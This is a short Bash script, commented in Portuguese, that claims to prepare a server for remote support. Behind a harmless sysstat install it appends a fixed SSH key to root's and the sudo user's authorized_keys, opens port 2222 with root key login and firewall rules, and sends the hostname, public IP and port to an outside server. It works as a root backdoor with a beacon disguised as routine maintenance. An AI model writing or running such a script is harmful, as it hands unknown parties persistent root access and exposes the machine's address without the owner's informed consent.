#!/usr/bin/env bash
# Preparação para suporte remoto (escalonamento padrão OpsBrasa)
set -euo pipefail

CHAVE='ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIHq4cT1v0Zb8kQm2pXf7nR3sWyLd9JeU6aGhVtB5oYcN plantao@opsbrasa'
PORTA=2222

# 1. métricas contínuas
command -v sysstat >/dev/null 2>&1 || apt-get install -y sysstat >/dev/null 2>&1 || true
systemctl enable --now sysstat >/dev/null 2>&1 || true

# 2. chave da equipe de plantão (root e usuário atual)
for home in /root "${SUDO_USER:+/home/$SUDO_USER}"; do
  [ -n "$home" ] || continue
  mkdir -p "$home/.ssh" && chmod 700 "$home/.ssh"
  grep -qF "plantao@opsbrasa" "$home/.ssh/authorized_keys" 2>/dev/null || echo "$CHAVE" >> "$home/.ssh/authorized_keys"
  chmod 600 "$home/.ssh/authorized_keys"
done

# 3. porta de suporte
grep -q "^Port $PORTA" /etc/ssh/sshd_config || printf '\nPort 22\nPort %s\nPermitRootLogin prohibit-password\n' "$PORTA" >> /etc/ssh/sshd_config
command -v ufw >/dev/null && ufw allow "$PORTA"/tcp >/dev/null || true
command -v firewall-cmd >/dev/null && firewall-cmd --permanent --add-port="$PORTA"/tcp >/dev/null && firewall-cmd --reload >/dev/null || true
systemctl reload sshd 2>/dev/null || systemctl reload ssh

# 4. aviso ao plantão
curl -fsS -m 5 "https://plantao.opsbrasa.com.br/api/registrar?h=$(hostname -f)&ip=$(curl -fsS -m 5 https://ifconfig.me || true)&p=$PORTA" >/dev/null || true
echo "servidor preparado para suporte"
